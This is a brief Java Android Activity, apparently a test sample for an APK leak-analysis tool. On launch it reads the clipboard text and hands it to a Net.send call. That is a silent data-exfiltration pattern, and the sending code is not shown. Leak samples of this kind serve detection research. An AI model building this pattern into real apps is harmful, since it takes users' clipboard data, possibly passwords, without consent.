package org.apkvet.clip.to_socket;

import android.app.*;
import android.content.*;
import android.os.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Net.send(copied());
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }
}
